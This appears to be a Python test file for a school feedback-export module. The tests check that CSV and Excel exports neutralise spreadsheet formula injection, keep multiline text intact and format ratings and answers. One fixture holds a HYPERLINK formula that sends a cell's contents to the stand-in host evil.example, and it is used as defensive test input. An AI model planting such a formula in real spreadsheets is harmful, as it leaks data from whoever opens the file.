"""Feedback exports: the table, and CSV/Excel files safe from formula injection."""

import io
from datetime import date, datetime
from types import SimpleNamespace

import pandas as pd
import pytest
from openpyxl import load_workbook

from commplan.feedback.exports import (
    COLUMNS,
    neutralise,
    responses_table,
    to_csv_bytes,
    to_xlsx_bytes,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
MULTILINE = 'The bus comes at 6:40.\nIt is dark, and "cold"; my kid waits alone,\r\nsome days.'


def response(id, answers, **fields):
    defaults = dict(
        id=id,
        received_on=date(2026, 10, 7),
        audience_key="families",
        channel="survey",
        plan_id=None,
        key_message=None,
        status="heard",
        themes=[],
        ratings={},
        status_note="",
        sentiment=None,
    )
    defaults.update(fields)
    defaults["answers"] = [SimpleNamespace(question=q, answer=a) for q, a in answers]
    defaults["themes"] = [SimpleNamespace(theme=t) for t in defaults["themes"]]
    return SimpleNamespace(**defaults)


@pytest.fixture
def table():
    return responses_table(
        [
            response(
                7,
                [("What gets in the way?", MULTILINE), ("Anything else?", "No")],
                plan_id=3,
                themes=["transportation", "Safety"],
                ratings={"overall": 2},
                status="decided",
                status_note="Adding a later stop",
                key_message="families_as_partners",
            ),
            response(
                8,
                [("", HYPERLINK)],
                audience_key="custom_group",
                channel="@channel",
                status_note="-1 from the board",
                themes=["+urgent"],
            ),
            response(9, [("Q", "\tTabbed"), ("", "\rcarriage")], received_on=date(2026, 9, 30)),
        ],
        audience_names={"families": "Families and caregivers"},
        plan_names={3: "Attendance matters"},
        key_message_titles={"families_as_partners": "Families are partners"},
    )


def test_responses_table_one_row_per_response(table):
    assert list(table.columns) == COLUMNS
    assert list(table["ID"]) == [7, 8, 9]
    first = table.iloc[0]
    assert first["Received"] == date(2026, 10, 7)
    assert first["Audience"] == "Families and caregivers"
    assert table.iloc[1]["Audience"] == "custom_group"  # unknown id shown as is
    assert first["Plan"] == "Attendance matters" and table.iloc[1]["Plan"] == ""
    assert first["Key message"] == "Families are partners"
    assert first["Status"] == "Decided" and table.iloc[2]["Status"] == "Heard"
    assert first["Themes"] == "Safety, transportation"
    assert first["Answers"] == f"What gets in the way?: {MULTILINE}\n\nAnything else?: No"
    assert table.iloc[1]["Answers"] == HYPERLINK  # no question: the answer alone
    assert first["Ratings"] == "overall: 2"
    assert first["Status note"] == "Adding a later stop"


def test_empty_table_keeps_columns():
    df = responses_table([])
    assert list(df.columns) == COLUMNS and df.empty
    assert pd.read_csv(io.BytesIO(to_csv_bytes(df))).columns.tolist() == COLUMNS
    assert next(load_workbook(io.BytesIO(to_xlsx_bytes(df))).active.values) == tuple(COLUMNS)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = fine", "plain = fine"),
        ("", ""),
        (5, 5),
        (date(2026, 1, 1), date(2026, 1, 1)),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_round_trip_keeps_text_and_neutralises_formulas(table):
    data = to_csv_bytes(table)
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert list(back.columns) == COLUMNS
    assert len(back) == 3
    # Line breaks, commas, semicolons and embedded quotes survive.
    assert back.loc[0, "Answers"] == f"What gets in the way?: {MULTILINE}\n\nAnything else?: No"
    assert back.loc[1, "Answers"] == "'" + HYPERLINK
    assert back.loc[1, "Channel"] == "'@channel"
    assert back.loc[1, "Status note"] == "'-1 from the board"
    assert back.loc[1, "Themes"] == "'+urgent"
    assert back.loc[2, "Answers"] == "Q: \tTabbed\n\n\rcarriage"  # starts with "Q": as is
    assert back.loc[0, "ID"] == "7" and back.loc[0, "Received"] == "2026-10-07"
    # The table itself is untouched (the app shows the text as received).
    assert table.iloc[1]["Answers"] == HYPERLINK


def test_csv_neutralises_every_formula_start():
    rows = [response(i, [("", s)]) for i, s in enumerate(["=a", "+b", "-c", "@d", "\te", "\rf"])]
    back = pd.read_csv(
        io.BytesIO(to_csv_bytes(responses_table(rows))), keep_default_na=False, dtype=str
    )
    assert [a[0] for a in back["Answers"]] == ["'"] * 6


def test_xlsx_round_trip_neutralises_formulas(table):
    wb = load_workbook(io.BytesIO(to_xlsx_bytes(table)))
    ws = wb.active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == tuple(COLUMNS)
    header = {name: i for i, name in enumerate(rows[0])}
    first, hostile = rows[1], rows[2]
    assert first[header["ID"]] == 7
    assert first[header["Received"]] == datetime(2026, 10, 7)  # a real date cell
    assert first[header["Answers"]] == (f"What gets in the way?: {MULTILINE}\n\nAnything else?: No")
    assert hostile[header["Answers"]] == "'" + HYPERLINK
    assert hostile[header["Channel"]] == "'@channel"
    assert hostile[header["Status note"]] == "'-1 from the board"
    # No cell anywhere is a formula.
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
    assert ws.freeze_panes == "A2"


def test_xlsx_drops_characters_excel_cannot_store():
    df = responses_table([response(1, [("Q", "bell\x07 and null\x00 gone")])])
    ws = load_workbook(io.BytesIO(to_xlsx_bytes(df))).active
    assert ws.cell(row=2, column=COLUMNS.index("Answers") + 1).value == "Q: bell and null gone"


def test_ratings_column_shows_numbers_and_leaves_out_unrated_choices():
    """Imported ratings are floats on a 1-5 scale; closed answers with no rating
    ("N/A", "Yes") are None: not shown as "None" and not as "4.0"."""
    table = responses_table(
        [
            response(
                1,
                [("Clarity", "Very clear"), ("Got the text?", "Yes"), ("Agree?", "Agree")],
                ratings={"Clarity": 4.0, "Got the text?": None, "Agree?": 4.33},
            )
        ]
    )
    assert table.iloc[0]["Ratings"] == "Clarity: 4; Agree?: 4.33"


def test_the_persons_own_words_come_before_their_closed_answers():
    """A survey's rating and role questions usually come first in the file; the Answers
    cell still opens with what the person wrote."""
    row = response(
        9,
        [
            ("You are a...", "Parent/guardian"),
            ("How clear was the letter?", "Very clear"),
            ("What would make it clearer?", "Say the bus times first."),
            ("Anything else?", "Thanks."),
        ],
        ratings={"How clear was the letter?": 5.0, "You are a...": None},
    )
    answers = responses_table([row]).loc[0, "Answers"].split("\n\n")
    assert answers == [
        "What would make it clearer?: Say the bus times first.",
        "Anything else?: Thanks.",
        "You are a...: Parent/guardian",
        "How clear was the letter?: Very clear",
    ]
